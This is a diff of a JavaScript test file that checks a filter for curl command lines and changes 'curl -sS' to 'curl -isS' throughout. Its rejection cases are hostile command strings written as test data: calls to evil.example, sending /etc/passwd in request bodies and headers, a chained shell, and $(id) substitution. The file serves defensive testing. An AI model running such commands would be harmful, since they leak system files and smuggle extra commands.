@@ -61,24 +61,24 @@ test.each([
 
 test.each([
   ['another program', `wget ${url}`],
-  ['another address', 'curl -sS https://evil.example'],
-  ['two addresses', `curl -sS ${url} https://evil.example`],
-  ['a file that is written', `curl -sS -o /tmp/x ${url}`],
-  ['a file of options', `curl -sS -K /tmp/x ${url}`],
-  ['a file that is sent', `curl -sS ${url} --data @/etc/passwd`],
-  ['a file that is sent by name', `curl -sS ${url} --data-urlencode a@/etc/passwd`],
-  ['a file of headers', `curl -sS ${url} -H @/etc/passwd`],
-  ['a proxy', `curl -sS -x evil.example ${url}`],
-  ['a second command', `curl -sS ${url}; sh`],
-  ['a substitution in a header', `curl -sS ${url} -H "x: $(id)"`],
-  ['another method', `curl -sS -X DELETE ${url}`],
+  ['another address', 'curl -isS https://evil.example'],
+  ['two addresses', `curl -isS ${url} https://evil.example`],
+  ['a file that is written', `curl -isS -o /tmp/x ${url}`],
+  ['a file of options', `curl -isS -K /tmp/x ${url}`],
+  ['a file that is sent', `curl -isS ${url} --data @/etc/passwd`],
+  ['a file that is sent by name', `curl -isS ${url} --data-urlencode a@/etc/passwd`],
+  ['a file of headers', `curl -isS ${url} -H @/etc/passwd`],
+  ['a proxy', `curl -isS -x evil.example ${url}`],
+  ['a second command', `curl -isS ${url}; sh`],
+  ['a substitution in a header', `curl -isS ${url} -H "x: $(id)"`],
+  ['another method', `curl -isS -X DELETE ${url}`],
 ])('a curl line of a stranger is left out: %s', (_what, curl) => {
   expect(kept({ command: anew, curl })).toEqual({ command: anew });
 });
 
 test.each([
-  `curl -sS -X POST \\\n  ${url} \\\n  -H 'x-auth-token: it'\\''s'`,
-  `curl -sS --max-time 60 ${url} -H "x-auth-token: $GREENLIGHT_TOKEN" --data '{"a":1}'`,
+  `curl -isS -X POST \\\n  ${url} \\\n  -H 'x-auth-token: it'\\''s'`,
+  `curl -isS --max-time 60 ${url} -H "x-auth-token: $GREENLIGHT_TOKEN" --data '{"a":1}'`,
 ])('one of ours stays: %s', (curl) => {
   expect(kept({ command: anew, curl })).toEqual({ command: anew, curl });
 });
